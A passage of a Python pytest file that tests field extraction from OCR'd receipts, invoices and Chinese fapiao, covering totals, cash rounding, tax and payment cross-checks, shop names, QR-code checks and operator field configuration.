"""Key fields on the classic path: the rules extractor on pages with positions, the
three layers of checks, the fields' place in routing, the store and the outputs."""

from __future__ import annotations

import datetime
import json
import time
from decimal import Decimal

import pytest

from appliance.config import settings_from_dict
from appliance.errors import ConfigError
from appliance.fields.document import read_fields
from appliance.fields.qr import FapiaoQr, parse
from appliance.fields.schema import DEFAULTS, schemas
from appliance.fields.validate import Seen
from appliance.outputs.tree import PageTree, TextBlock, TextLine
from appliance.page import Word

TODAY = datetime.date(2026, 12, 1)
CHAR_W, LINE_H = 14.0, 28.0


def page(*rows: tuple, number: int = 1, confidence: float = 0.95) -> PageTree:
    """A page whose lines stand at (x, y), each word as wide as its characters; a row
    (x, y, text, confidence) is read with a confidence of its own."""
    lines = []
    for x, y, text, *read in rows:
        words, left = [], x
        for token in text.split(" "):
            words.append(Word(token, (left, y, left + CHAR_W * len(token), y + LINE_H),
                              read[0] if read else confidence))
            left += CHAR_W * (len(token) + 1)
        lines.append(TextLine((x, y, left - CHAR_W, y + LINE_H), words))
    return PageTree(number, 1240, 1754, 150, "done", [TextBlock(lines[0].box, lines)])


def no_history(_key: str) -> list[Seen]:
    return []


def by_name(reading) -> dict[str, dict]:
    return {f["name"]: f for f in reading.fields}


RECEIPT = page(
    (300, 40, "TAX INVOICE"),
    (200, 80, "KEDAI MAJU JAYA SDN BHD"),
    (200, 115, "NO 12 JALAN BESAR"),
    (200, 150, "43000 KAJANG SELANGOR"),
    (200, 185, "TEL 03-8736 5678"),
    (60, 240, "Date: 25/12/2018 10:15"),
    (60, 300, "MILO TIN"), (500, 300, "12.50"),
    (60, 335, "ROTI BAKAR"), (500, 335, "3.20"),
    (60, 380, "SUBTOTAL"), (500, 380, "15.70"),
    (60, 415, "TOTAL RM"), (500, 415, "15.70"),
    (60, 450, "CASH"), (500, 450, "50.00"),
    (60, 485, "CHANGE"), (500, 485, "34.30"),
)


def test_a_receipt_gives_its_shop_address_date_and_total_not_the_cash():
    reading = read_fields([RECEIPT], DEFAULTS["receipt"], no_history, today=TODAY)
    fields = by_name(reading)
    assert fields["company"]["value"] == "KEDAI MAJU JAYA SDN BHD"
    assert fields["address"]["value"] == "NO 12 JALAN BESAR 43000 KAJANG SELANGOR"
    assert fields["date"]["value"] == "2018-12-25"
    assert fields["total"]["value"] == "15.70"
    # printed without its currency, in the one the receipt names ("TOTAL RM")
    assert fields["total"]["currency"] == "MYR"
    assert reading.reasons == []
    assert all(f["valid"] for f in reading.fields)
    # the evidence is the value's own box on the page, beside its label
    [evidence] = fields["total"]["evidence"]
    assert evidence["page"] == 1 and evidence["box"] == [500, 415, 570, 443]
    assert 0 < fields["total"]["confidence"] <= 0.95


def test_a_missing_required_field_and_a_future_date_are_reasons_for_review():
    without_total = page((200, 80, "KEDAI MAJU JAYA SDN BHD"), (60, 240, "Date: 25/12/2031"),
                         (60, 300, "MILO TIN"), (500, 300, "12.50"))
    reading = read_fields([without_total], DEFAULTS["receipt"], no_history, today=TODAY)
    assert "missing_field: total" in reading.reasons
    assert any(r.startswith("field_invalid: date: 2031-12-25 lies in the future")
               for r in reading.reasons)
    fields = by_name(reading)
    assert fields["total"]["value"] is None and fields["total"]["valid"] is False
    assert fields["address"]["valid"] is None  # optional, and not there


def total_of(*rows: tuple[float, float, str]) -> str | None:
    reading = read_fields([page((200, 20, "KEDAI MAJU JAYA SDN BHD"), *rows)],
                          DEFAULTS["receipt"], no_history, today=TODAY)
    return by_name(reading)["total"]["value"]


def test_a_total_that_includes_the_tax_is_the_total_not_the_tax_summary_under_it():
    assert total_of((60, 300, "TOTAL INCL. GST06%"), (500, 300, "RM 7.00"),
                    (60, 340, "CASH"), (500, 340, "RM 10.00"),
                    (60, 380, "GST @6% included in total"), (500, 380, "RM 0.40"),
                    # the tax summary's amount column holds the amount before tax
                    (60, 440, "GST Summary"), (300, 440, "Amount(RM)"), (500, 440, "Tax(RM)"),
                    (60, 475, "SR @ 6%"), (300, 475, "6.60"), (500, 475, "0.40")) == "7.00"
    assert total_of((60, 300, "Total (VAT inclusive) 12.00"), (60, 340, "Total VAT 2.00")) == "12.00"
    assert total_of((60, 300, "Total excl. VAT 10.00"), (60, 340, "VAT 2.00")) is None


def test_the_total_is_the_one_after_the_cash_rounding_and_not_what_was_paid():
    assert total_of((60, 300, "Total Amount: RM10.36"), (60, 340, "Rounding: -RM0.01"),
                    (60, 380, "Nett Total: RM10.35"), (60, 420, "Paid Amount: RM20.00"),
                    (60, 460, "Change: RM9.65")) == "10.35"
    # no total below the rounding: the largest total stands
    assert total_of((60, 300, "Total 10.36"), (60, 340, "Rounding Adj 0.00")) == "10.36"


def test_the_amount_payable_and_the_rounded_total_are_the_total():
    # a credit note's parts are larger than what is to be paid
    assert total_of((60, 300, "Total 0% supplies:"), (500, 300, "42.37"),
                    (60, 340, "Total Payable:"), (500, 340, "38.55")) == "38.55"
    # the rounding's own row under the adjustment holds the rounded total
    assert total_of((60, 300, "Total Sales (Inclusive GST) RM"), (500, 300, "98.89"),
                    (60, 340, "Rounding Adjustment RM"), (500, 340, ".01"),
                    (60, 380, "Rounding RM"), (500, 380, "98.90"),
                    (60, 420, "CASH RM"), (500, 420, "100.00")) == "98.90"
    # an amount below the rounding that is no rounded total leaves the total as it was
    assert total_of((60, 300, "TOTAL"), (500, 300, "RM41.81"),
                    (60, 340, "ROUNDING"), (500, 340, "RM-0.01"),
                    (60, 380, "SV CHG @ 10% Amount"), (500, 380, "RM3.59")) == "41.81"


def test_an_amount_column_does_not_give_the_cash_paid_as_the_total():
    assert total_of((60, 300, "Total Amount: 6.60"),
                    (60, 340, "Payment Mode"), (500, 340, "Amount"),
                    (60, 375, "CASH"), (500, 375, "10.00")) == "6.60"


def test_an_amount_column_header_does_not_give_its_first_row_as_the_total():
    # "Amount" heads the items: the first item's amount (a misread 31.80) is not the total
    assert total_of((60, 300, "Description"), (400, 300, "Qty"), (500, 300, "Amount"),
                    (60, 340, "DESIGN"), (400, 340, "1"), (500, 340, "3180"),
                    (60, 380, "FLYERS"), (400, 380, "100"), (500, 380, "73.14"),
                    (60, 440, "TOTAL"), (500, 440, "100.00")) == "100.00"
    assert total_of((60, 300, "GST Summary"), (300, 300, "Amount(RM)"), (500, 300, "Tax(RM)"),
                    (300, 340, "46.16"), (500, 340, "2.77"),
                    (60, 380, "TAX TOTAL:"), (300, 380, "2.77")) is None
    # a label over its value alone still gives it
    assert total_of((60, 300, "TOTAL AMOUNT"), (60, 340, "RM 12.00"),
                    (60, 420, "Thank you")) == "12.00"


def test_a_total_whose_decimal_point_was_misread_is_read_beside_its_label():
    reading = read_fields([page((200, 20, "KEDAI MAJU JAYA SDN BHD"),
                                (60, 300, "SUB-TOTAL"), (500, 300, "27.27"),
                                (60, 340, "TOTAL"), (500, 340, "28-90"),
                                (60, 380, "CASH"), (500, 380, "28.90"),
                                (60, 420, "CHANGE"), (500, 420, "0.00"))],
                          DEFAULTS["receipt"], no_history, today=TODAY)
    total = by_name(reading)["total"]
    assert (total["raw"], total["value"]) == ("28-90", "28.90")  # shown as it was read
    assert total["valid"] is True  # what was paid less the change agrees


def test_more_change_than_was_paid_fails_the_payment_check():
    """Issue 53: a change read as 100.00 beside 10.00 paid and a total of 9.00 passed
    on one receipt (no check was made where the change was the larger), while the same
    difference failed on another; both fail now, and the check says why."""
    for change in ("100.00", "2.00"):
        reading = read_fields([page((200, 20, "KEDAI MAJU JAYA SDN BHD"),
                                    (60, 340, "TOTAL"), (500, 340, "9.00"),
                                    (60, 380, "CASH"), (500, 380, "10.00"),
                                    (60, 420, "CHANGE"), (500, 420, change))],
                              DEFAULTS["receipt"], no_history, today=TODAY)
        fields = by_name(reading)
        assert fields["total"]["valid"] is False, (change, fields["total"])
        assert f"change {change}" in json.dumps(fields["total"]), fields["total"]


def test_labels_of_their_own_for_the_total():
    # a rounding in the total's own label ("Total After Rounding") does not rule it out
    assert total_of((60, 300, "lotal Sales Incl. GST"), (500, 300, "48.93"),
                    (60, 340, "Rounding Adjustment"), (500, 340, "0.02"),
                    (60, 380, "Total After Rounding"), (500, 380, "48.95"),
                    (60, 420, "VISA"), (500, 420, "48.95")) == "48.95"
    # "Due" and "Net Amt" are totals; "Change Due" is not
    assert total_of((60, 300, "Qty"), (300, 300, "1"), (500, 300, "7.50"),
                    (60, 340, "Due"), (500, 340, "7.50"), (60, 380, "Fay"), (500, 380, "20.00"),
                    (60, 420, "Change Due"), (500, 420, "12.50")) == "7.50"
    assert total_of((60, 300, "Gross Amt :"), (500, 300, "36.00"),
                    (60, 340, "Net Amt :"), (500, 340, "36.00"),
                    (60, 380, "Received"), (500, 380, "50.00")) == "36.00"


def test_a_total_label_is_read_as_ocr_writes_it():
    for label in ["Grand Tota1", "T0TAL", "TOTAI"]:
        assert total_of((60, 300, "SUBTOTAL"), (500, 300, "14.50"),
                        (60, 340, label), (500, 340, "15.40")) == "15.40", label
    # look-alikes keep a not-label a not-label: "5UBTOTAL" is a subtotal
    assert total_of((60, 300, "5UBTOTAL"), (500, 300, "99.00"),
                    (60, 340, "TOTAL"), (500, 340, "15.40")) == "15.40"


def test_the_row_under_a_cash_rounding_holds_the_rounded_total():
    assert total_of((15, 655, "TOTAL AMT..."), (222, 655, "..RM"), (314, 655, "60.31"),
                    (17, 681, "ROUNDING ADJ......"), (318, 681, "-0.01"),
                    (252, 728, "RH"), (313, 728, "60.30"),
                    (13, 760, "CASHM"), (317, 760, "70.30")) == "60.30"
    # glued to its currency, the rounding line is one all the same
    assert total_of((60, 300, "Total Sales (Inclusive GST) RM"), (500, 300, "13.58"),
                    (60, 340, "Rounding Adjustment RM"), (500, 340, ",02"),
                    (60, 380, "Saved today"), (500, 380, "0.00"),
                    (60, 420, "RoundingRM"), (500, 420, "13.60"),
                    (60, 460, "CASH RM"), (500, 460, "14.00")) == "13.60"
    # a row under the adjustment more than a cash rounding away is no rounded total
    assert total_of((60, 300, "TOTAL"), (500, 300, "41.81"),
                    (60, 340, "ROUNDING"), (500, 340, "-0.01"),
                    (60, 380, "SERVICE"), (500, 380, "3.59")) == "41.81"


def test_a_total_written_without_cents_and_a_tax_summary_row_are_no_total():
    assert total_of((60, 300, "TOTAL"), (500, 300, "46.55"),
                    (60, 340, "GST Summary"), (300, 340, "Amount"), (500, 340, "Tax"),
                    (60, 380, "SR @ 6%"), (300, 380, "43.92"), (500, 380, "2.63"),
                    (60, 420, "Total"), (300, 420, "43.92"), (500, 420, "2.63"),
                    (60, 460, "Total"), (500, 460, "1009 001 0010411")) == "46.55"
    # a summary far above is no reason to doubt a total
    assert total_of((60, 100, "GST Summary"), (60, 700, "TOTAL"), (500, 700, "12.00")) == "12.00"


def test_a_labelled_total_a_cent_away_from_the_payment_stands():
    # the change, read with doubt as 0.01, is the likelier misreading
    assert total_of((60, 300, "Amount"), (500, 300, "248.04"),
                    (60, 340, "Rounding"), (500, 340, "0.01"),
                    (60, 380, "Total"), (500, 380, "248.05"),
                    (60, 420, "CASH :"), (500, 420, "248.05"),
                    (60, 460, "Change :"), (500, 460, "0.01")) == "248.05"


def test_a_total_whose_label_was_misread_is_the_sum_of_subtotal_and_tax_printed_below():
    rows = ((60, 300, "Sub Total"), (400, 300, "RM"), (500, 300, "68.87"),
            (60, 340, "Service Charge"), (400, 340, "RM"), (500, 340, "0.00"),
            (60, 380, "GST/TAX 6%"), (400, 380, "RM"), (500, 380, "4.13"))
    assert total_of(*rows, (60, 420, "TOTL, :"), (400, 420, "RM"), (500, 420, "73.00"),
                    (60, 460, "CA."), (400, 460, "RM"), (500, 460, "73.00")) == "73.00"
    assert total_of((60, 260, "Total Sales (Excluding GST)"), (500, 260, "94.34"),
                    (60, 300, "Total GST"), (500, 300, "5.66"),
                    (60, 340, "Total Sales (hclusive of GST)"), (500, 340, "100.00")) == "100.00"
    # no amount below is the sum: no total
    assert total_of(*rows, (60, 420, "TOTL, :"), (400, 420, "RM"), (500, 420, "70.00")) is None


def test_what_was_paid_less_the_change_settles_the_total():
    # the printed total's label is not one a total has: the subtotal is what was paid for
    assert total_of((60, 300, "SUBTOTAL"), (500, 300, "RM15.80"),
                    (60, 340, "CASH"), (500, 340, "RM20.00"),
                    (60, 380, "YOUR CHANGE"), (500, 380, "RM4.20"),
                    (60, 420, "GST TAX AMT"), (500, 420, "RM14.91")) == "15.80"
    # a total before the cash rounding, and the rounded one printed without a total's label
    assert total_of((60, 300, "Total"), (500, 300, "46.89"), (60, 340, "Adj"), (500, 340, "0.01"),
                    (60, 380, "Due"), (500, 380, "46.90"), (60, 420, "Cash"), (500, 420, "50.00"),
                    (60, 460, "Change"), (500, 460, "3.10")) == "46.90"
    # a registration number beside "Cash" is no payment: the total stands
    assert total_of((60, 300, "TOTAL"), (500, 300, "9.90"),
                    (60, 340, "CASH & CARRY (317041-W)"), (60, 380, "CHANGE 0.10")) == "9.90"
    # a number written without cents is no amount that settles it ("Ticket 1" is no 1.00)
    assert total_of((60, 300, "Ticket 1"), (60, 340, "CASH 2.00"),
                    (60, 380, "CHANGE 1.00")) is None


def said(field: dict) -> list[tuple[str, bool, str]]:
    """A field's checks as (layer, ok, message)."""
    return [(c["layer"], c["ok"], c["message"]) for c in field["checks"]]


def payment_checks(*rows: tuple[float, float, str]) -> tuple[list[str], dict]:
    reading = read_fields([page((200, 20, "KEDAI MAJU JAYA SDN BHD"),
                                (60, 60, "Date: 25/12/2018"), *rows)],
                          DEFAULTS["receipt"], no_history, today=TODAY)
    return reading.reasons, by_name(reading)


def test_a_total_that_is_not_what_was_paid_less_the_change_goes_to_a_person():
    reasons, fields = payment_checks((60, 300, "TOTAL"), (500, 300, "18.50"),
                                     (60, 340, "CASH"), (500, 340, "20.00"),
                                     (60, 380, "CHANGE"), (500, 380, "2.50"))
    assert "field_invalid: total: total 18.50 != paid 20.00 - change 2.50" in reasons
    assert fields["paid"]["value"] == "20.00" and fields["change"]["value"] == "2.50"
    assert fields["total"]["valid"] is False
    # cash is paid in the coins there are: 41.81 paid as 41.80 is no error
    reasons, fields = payment_checks((60, 300, "TOTAL"), (500, 300, "41.81"),
                                     (60, 340, "CASH"), (500, 340, "42.00"),
                                     (60, 380, "CHANGE"), (500, 380, "0.20"))
    assert reasons == [] and fields["total"]["valid"] is True
    assert any("rounded for cash to 41.80" in check["message"]
               for check in fields["total"]["checks"])


ITEMS = ((60, 300, "MILO TIN"), (300, 300, "2"), (380, 300, "6.25"), (500, 300, "12.50"),
         (60, 335, "ROTI BAKAR"), (300, 335, "1"), (380, 335, "3.20"), (500, 335, "3.20"))


def test_item_rows_that_prove_themselves_must_add_up_to_a_sum_under_them():
    reasons, fields = payment_checks(*ITEMS, (60, 380, "SUBTOTAL"), (500, 380, "15.70"),
                                     (60, 415, "TOTAL"), (500, 415, "15.70"))
    assert reasons == [] and fields["total"]["valid"] is True
    assert ("logic", True, "the 2 item rows add up to 15.70, as printed under them") in said(
        fields["total"])
    # an amount misread in the sums: 15.79 is neither the items' sum nor under them
    reasons, fields = payment_checks(*ITEMS, (60, 380, "SUBTOTAL"), (500, 380, "15.79"),
                                     (60, 415, "TOTAL"), (500, 415, "15.79"))
    assert reasons == ["field_invalid: total: the 2 item rows add up to 15.70, which no sum "
                       "under them shows (15.79, 15.79) and the total is not"]
    # the same sums under rows that do not prove themselves (no quantity): nothing is said
    reasons, fields = payment_checks((60, 300, "MILO TIN"), (500, 300, "12.50"),
                                     (60, 335, "ROTI BAKAR"), (500, 335, "3.20"),
                                     (60, 380, "SUBTOTAL"), (500, 380, "15.79"),
                                     (60, 415, "TOTAL"), (500, 415, "15.79"))
    assert reasons == [] and not any("item rows" in check["message"]
                                     for check in fields["total"]["checks"])


def test_what_was_handed_over_is_the_largest_payment_line():
    # "Total paid" repeats the total; the cash handed over is the larger amount
    reasons, fields = payment_checks((60, 300, "GRAND TOTAL"), (500, 300, "191,38"),
                                     (60, 340, "Total paid"), (500, 340, "191,38"),
                                     (60, 380, "ESPECES"), (500, 380, "210,00"),
                                     (60, 420, "RENDU"), (500, 420, "18,62"))
    assert fields["paid"]["value"] == "210.00" and fields["total"]["valid"] is True
    assert reasons == []


def header_of(*rows: tuple) -> tuple[str | None, str | None]:
    reading = read_fields([page(*rows, (60, 600, "TOTAL 9.90"))], DEFAULTS["receipt"],
                          no_history, today=TODAY)
    fields = by_name(reading)
    return fields["company"]["value"], fields["address"]["value"]


def test_a_shop_name_without_its_registration_number_and_an_address_that_starts_no():
    assert header_of((150, 40, "KEDAI MAJU JAYA SDN.BHD.(974306-T)"),
                     (180, 75, "NO.2, JALAN MAWAR 3,"), (180, 110, "43000 KAJANG."),
                     (180, 145, "GST REG NO.:000111222333")) == (
        "KEDAI MAJU JAYA SDN.BHD.", "NO.2, JALAN MAWAR 3, 43000 KAJANG.")
    # its number on the row under it, and the title, stand between the name and address
    assert header_of((150, 40, "KEDAI MAJU JAYA (M) SDN BHD (Co"), (200, 75, "(81109-A)"),
                     (150, 110, "TAX INVOICE / ADJUSTMENT NOTE"),
                     (180, 145, "No 5, Jalan Besar"), (180, 180, "TEL 03-8736 5678")) == (
        "KEDAI MAJU JAYA (M) SDN BHD", "No 5, Jalan Besar")


def test_who_owns_a_shop_is_no_part_of_its_name():
    for owned in ["OWN BY: CHEF LEE SDN BHD", "Dimiliki oleh : Chef Lee Sdn Bhd",
                  "Owned by Chef Lee Sdn Bhd"]:
        name = header_of((150, 40, owned), (180, 75, "No 5, Jalan Besar"))[0]
        assert name.casefold() == "chef lee sdn bhd", owned


def test_a_shop_name_is_read_across_the_lines_ocr_split_it_into():
    # one printed row read as three lines
    assert header_of((100, 40, "KEDAI"), (200, 40, "MAJU SDN"), (340, 40, "BHD"),
                     (180, 75, "5 Jalan Besar"))[0] == "KEDAI MAJU SDN BHD"
    # a name that runs on to the row of its company form
    assert header_of((150, 40, "PERNIAGAAN BUKU"), (150, 75, "CO. (M) SDN BHD"),
                     (150, 110, "(Co. No. 123456-W)"), (150, 145, "Lot 5, Jalan Besar"))[0] \
        == "PERNIAGAAN BUKU CO. (M) SDN BHD"
    assert header_of((150, 40, "PERNIAGAAN BUKU"), (150, 75, "CERIA SDN BHD"),
                     (150, 110, "Lot 5, Jalan Besar"))[0] == "PERNIAGAAN BUKU CERIA SDN BHD"
    # a line over a name that is whole is not part of it
    assert header_of((150, 40, "HAPPY MALL @ 1 CITY CENTRE"), (150, 75, "KOPI CORNER SDN BHD"),
                     (150, 110, "Lot 5, Jalan Besar"))[0] == "KOPI CORNER SDN BHD"
    assert header_of((200, 40, "**Kopi Corner**"), (150, 75, "Lot 5, Jalan Besar"))[0] \
        == "Kopi Corner"



def test_a_greeting_a_title_a_registration_and_a_logo_read_as_text_are_no_shop_name():
    shop = [(150, 110, "KOPI CORNER"), (150, 145, "Lot 5, Jalan Besar")]
    for over in ["Thank You. Please come again.", "SIMPLIFIED TAX INVOICE", "TAXINVOICE",
                 "BR No.: (124525-H)", "TQ FOR SHOPPING WITH myNEWS.com",
                 "REDEEM VOUCHER BEFORE POINTS EXPIRY!", "Your order number is"]:
        assert header_of((150, 75, over), *shop)[0] == "KOPI CORNER", over
    # a logo read with doubt as a word or two; a doubtful name of three words stays
    assert header_of((200, 20, "peaypacin", 0.23), *shop)[0] == "KOPI CORNER"
    assert header_of((150, 75, "PERNIAGAAN RIANG RIA", 0.42), *shop)[0] == "PERNIAGAAN RIANG RIA"


def test_a_shop_name_ends_where_its_registration_or_address_starts_and_goes_on_in_a_bracket():
    address = (150, 145, "NO. 17-G, JALAN SETIA INDAH")
    assert header_of((100, 40, "AIK HUAT ENTERPRISE (SETIA"), (150, 75, "ALAM) SDN BHD"),
                     (200, 110, "822737-X"), address)[0] \
        == "AIK HUAT ENTERPRISE (SETIA ALAM) SDN BHD"
    # an address OCR read on the name's row, and a number whose first digit is misread
    assert header_of((100, 40, "LIGHTROOM GALLERY SDN BHD No: 28, JALAN ASTANA 1C,"),
                     address)[0] == "LIGHTROOM GALLERY SDN BHD"
    assert header_of((100, 40, "99 SPEED MART S/B (S19537-X)"), address)[0] == "99 SPEED MART S/B"


def test_a_note_written_far_over_the_print_gives_way_to_the_registered_name_under_it():
    print_ = [(95, 200, "MR D.I.Y. (JOHOR) SDN BHD"), (134, 235, "(CO.REG :933109-X)"),
              (54, 270, "LOT 1851-A, JALAN KPB 6,")]
    assert header_of((120, 10, "tan woon yann"), *print_)[0] == "MR D.I.Y. (JOHOR) SDN BHD"
    # close over the name, a brand is the name the receipt goes by
    assert header_of((120, 130, "DIY MART"), *print_)[0] == "DIY MART"

INVOICE_ROWS = [
    (60, 60, "Muster Bürobedarf GmbH"),
    (60, 95, "Hauptstraße 5, 10115 Berlin"),
    (60, 130, "VAT ID: DE136695976"),
    (700, 60, "Invoice No.: INV-2024-0042"),
    (700, 95, "Invoice date: 15.03.2024"),
    (700, 130, "Due date: 14.04.2024"),
    (60, 220, "Bill to:"),
    (60, 255, "Beispiel Handel AG"),
    (60, 400, "Subtotal"), (900, 400, "1.000,00 EUR"),
    (60, 435, "VAT 19%"), (900, 435, "190,00 EUR"),
    (60, 470, "Total due"), (900, 470, "1.190,00 EUR"),
    (60, 560, "IBAN: DE89 3704 0044 0532 0130 00"),
]


def test_an_invoice_gives_every_field_and_they_agree():
    reading = read_fields([page(*INVOICE_ROWS)], DEFAULTS["invoice"], no_history, today=TODAY)
    values = {name: f["value"] for name, f in by_name(reading).items()}
    assert values == {
        "number": "INV-2024-0042", "issue_date": "2024-03-15", "due_date": "2024-04-14",
        "seller": "Muster Bürobedarf GmbH", "buyer": "Beispiel Handel AG",
        "seller_vat_id": "DE136695976", "net": "1000.00", "tax": "190.00", "gross": "1190.00",
        "currency": "EUR", "iban": "DE89370400440532013000"}
    assert reading.reasons == []
    gross = by_name(reading)["gross"]
    assert gross["currency"] == "EUR"
    assert ("logic", True, "gross 1190.00 = net 1000.00 + tax 190.00") in said(gross)


def test_amounts_that_do_not_add_up_a_bad_iban_and_dates_out_of_order_are_flagged():
    rows = [r for r in INVOICE_ROWS if not r[2].startswith(("Total due", "1.190", "IBAN",
                                                             "Due date"))]
    rows += [(60, 470, "Total due"), (900, 470, "1.910,00 EUR"),
             (60, 560, "IBAN: DE88 3704 0044 0532 0130 00"), (700, 130, "Due date: 01.03.2024")]
    reading = read_fields([page(*rows)], DEFAULTS["invoice"], no_history, today=TODAY)
    reasons = "\n".join(reading.reasons)
    assert "field_invalid: gross: gross 1910.00 != net 1000.00 + tax 190.00" in reasons
    assert "field_invalid: iban: " in reasons
    assert "field_invalid: due_date: due 2024-03-01 before issue 2024-03-15" in reasons
    assert by_name(reading)["iban"]["valid"] is False


def test_the_same_seller_and_number_with_another_amount_is_flagged():
    earlier = Seen("doc-1", {"seller": "Muster Bürobedarf GmbH", "number": "INV-2024-0042",
                             "gross": "1100.00", "issue_date": "2024-03-15"})
    asked = []

    def seen(key):
        asked.append(key)
        return [earlier]

    reading = read_fields([page(*INVOICE_ROWS)], DEFAULTS["invoice"], seen, today=TODAY)
    assert asked == [reading.identity] and reading.identity
    assert "field_invalid: gross: document doc-1 has the same number with gross 1100.00" \
        in reading.reasons


def test_a_value_the_page_does_not_show_has_no_evidence():
    """A value that reached the fields without being in the accepted text (a model's
    invention, a stale correction) fails the business layer."""
    from appliance.fields.extract import Found
    from appliance.fields.kinds import parse
    from appliance.fields.validate import validate

    spec = DEFAULTS["receipt"][3]
    found = {"total": Found(spec, parse("money", "99.99"), 0.9)}
    checks = validate((spec,), found, text="TOTAL 15.70", history=[], today=TODAY)
    assert checks["total"][-1].layer == "business" and not checks["total"][-1].ok


def test_a_fapiao_total_in_capitals_must_equal_the_total():
    rows = [(60, 60, "发票代码 011002300111"), (700, 60, "发票号码 12345678"),
            (700, 95, "开票日期 2024年3月15日"),
            (60, 600, "价税合计（大写） 壹万肆仟肆佰陆拾肆元整"), (800, 600, "（小写） ¥14464.00")]
    fapiao = DEFAULTS["fapiao"]
    right = by_name(read_fields([page(*rows)], fapiao, no_history, today=TODAY))
    assert right["issue_date"]["value"] == "2024-03-15"
    assert right["total"]["value"] == right["total_capital"]["value"] == "14464.00"
    assert right["total_capital"]["valid"] is True
    rows[-1] = (800, 600, "（小写） ¥14446.00")
    wrong = read_fields([page(*rows)], fapiao, no_history, today=TODAY)
    assert any(r.startswith("field_invalid: total_capital: the total in capitals (14464.00) "
                            "differs from the total (14446.00)") for r in wrong.reasons)


def test_a_fapiao_s_values_after_a_full_width_colon_are_read_without_it():
    """A fapiao prints "发票号码：74218096" (a full-width colon, no space): the value is
    what follows the colon, for a code, a number and a name alike."""
    rows = [(1030, 50, "发票代码：877893287921"), (1030, 88, "发票号码：74218096"),
            (60, 250, "购买方名称：南京远航信息技术有限公司")]
    found = by_name(read_fields([page(*rows)], DEFAULTS["fapiao"], no_history, today=TODAY))
    assert [found[name]["raw"] for name in ("code", "number", "buyer_name")] == [
        "877893287921", "74218096", "南京远航信息技术有限公司"]


def qr_code(text: str) -> dict:
    return {"format": "QRCode", "value": text, "polygon": [[40, 40], [200, 40], [200, 200],
                                                           [40, 200]]}


def qr_reasons(reading) -> list[str]:
    return [reason for reason in reading.reasons if "QR code" in reason]


FAPIAO_ROWS = [(260, 60, "发票代码 011002300111"), (700, 60, "发票号码 12345678"),
               (700, 95, "开票日期 2024年3月15日"), (60, 560, "合计 ¥12800.00 ¥1664.00"),
               (60, 600, "价税合计（大写） 壹万肆仟肆佰陆拾肆元整"), (800, 600, "（小写） ¥14464.00")]


def test_a_fapiao_s_fields_are_checked_against_its_qr_code():
    """The QR code holds the invoice's code, number, date and total before tax (with
    tax, on a digital invoice, which has no code): a printed value read otherwise fails
    a business check that names both."""
    assert parse("01,04,011002300111,12345678,12800.00,20240315,12345678901234567890,A1B2,"
                 ) == FapiaoQr("04", "011002300111", "12345678", Decimal("12800.00"),
                               datetime.date(2024, 3, 15))
    digital = parse("01，32，，24442000000012345678，14464.00，20240315，，3F2A")  # full-width
    assert digital.code is None and digital.amount_field == "total"
    assert parse("https://example.com/01,04") is None and parse("01,04,1,2,3,4,5") is None
    fapiao = DEFAULTS["fapiao"]
    tree = page(*FAPIAO_ROWS)
    tree.barcodes = [qr_code("01,04,011002300111,12345678,12800.00,20240315,"
                             "12345678901234567890,A1B2,")]
    agreed = read_fields([tree], fapiao, no_history, today=TODAY)
    assert qr_reasons(agreed) == []
    for name in ("code", "number", "issue_date", "amount"):
        assert ("business", True, "as its QR code says") in said(by_name(agreed)[name])
    tree.barcodes = [qr_code("01,04,011002300111,12345679,12880.00,20240315,,A1B2,")]
    misread = read_fields([tree], fapiao, no_history, today=TODAY)
    assert qr_reasons(misread) == ["field_invalid: number: 12345678 != 12345679 in its QR code",
                                   "field_invalid: amount: 12800.00 != 12880.00 in its QR code"]
    tree.barcodes = [qr_code("01,32,,24442000000012345678,14446.00,20240315,,3F2A")]
    digital = read_fields([tree], fapiao, no_history, today=TODAY)
    assert qr_reasons(digital) == [  # (this page's code and number are not a digital one's)
        "field_invalid: number: 12345678 != 24442000000012345678 in its QR code",
        "field_invalid: total: 14464.00 != 14446.00 in its QR code"]
    tree.barcodes = [{**qr_code("not a fapiao"), "format": "Code128"}]
    assert qr_reasons(read_fields([tree], fapiao, no_history, today=TODAY)) == []


def test_the_operator_adds_and_changes_fields_in_the_config(tmp_path):
    settings = settings_from_dict({"fields": {"receipt": [
        {"name": "total", "kind": "money", "required": True, "labels": ["betrag"],
         "pick": "largest"},
        {"name": "till", "kind": "regex", "pattern": r"K\d+", "labels": ["kasse"]},
    ]}}, base_dir=tmp_path)
    receipt = schemas(settings.fields)["receipt"]
    assert [s.name for s in receipt] == ["company", "date", "address", "total", "paid",
                                         "change", "till"]
    assert receipt[3].labels == ("betrag",)
    reading = read_fields([page((200, 80, "Bäckerei Korn GmbH"), (60, 200, "Kasse K7"),
                                (60, 240, "Betrag 4,20 €"))], receipt, no_history, today=TODAY)
    assert by_name(reading)["total"]["value"] == "4.20"
    assert by_name(reading)["till"]["value"] == "K7"


def test_a_site_that_writes_month_first_reads_its_dates_so(tmp_path):
    rows = [(200, 80, "Bäckerei Korn GmbH"), (60, 200, "Date: 09/03/2024"),
            (60, 240, "Issued 12/25/2024")]
    default = by_name(read_fields([page(*rows)], schemas()["receipt"], no_history, today=TODAY))
    assert default["date"]["value"] == "2024-03-09"
    us = settings_from_dict({"fields": {"day_first": False}}, base_dir=tmp_path)
    fields = schemas(us.fields)["receipt"]
    assert by_name(read_fields([page(*rows)], fields, no_history,
                               today=TODAY))["date"]["value"] == "2024-09-03"
    # a date that reads one way only is read that way, whatever the site's order
    assert by_name(read_fields([page(rows[0], rows[2])], fields, no_history,
                               today=TODAY))["date"]["value"] == "2024-12-25"


@pytest.mark.parametrize("table, words", [
    ({"name": "x", "kind": "enum"}, "without choices"),
    ({"name": "x", "kind": "regex", "labels": ["a"]}, "without a pattern"),
    ({"name": "x", "kind": "regex", "pattern": "(", "labels": ["a"]}, "not a valid regular"),
    ({"name": "x", "kind": "money"}, "has no labels"),
    ({"name": "x", "kind": "colour"}, "not allowed"),
])
def test_a_field_the_appliance_could_never_find_is_refused_at_start(tmp_path, table, words):
    with pytest.raises(ConfigError, match=words):
        settings_from_dict({"fields": {"invoice": [table]}}, base_dir=tmp_path)


def test_fields_are_json():
    reading = read_fields([RECEIPT], DEFAULTS["receipt"], no_history, today=TODAY)
    assert json.loads(json.dumps(reading.fields)) == reading.fields


RECEIPT_LINES = ["KEDAI MAJU JAYA SDN BHD", "NO 12 JALAN BESAR", "43000 KAJANG SELANGOR",
                 "TEL 03-8736 5678", "Date: 25/12/2018", "MILO TIN 12.50", "ROTI BAKAR 3.20"]


def test_a_typed_document_is_routed_by_its_fields_and_its_json_carries_them(tmp_path):
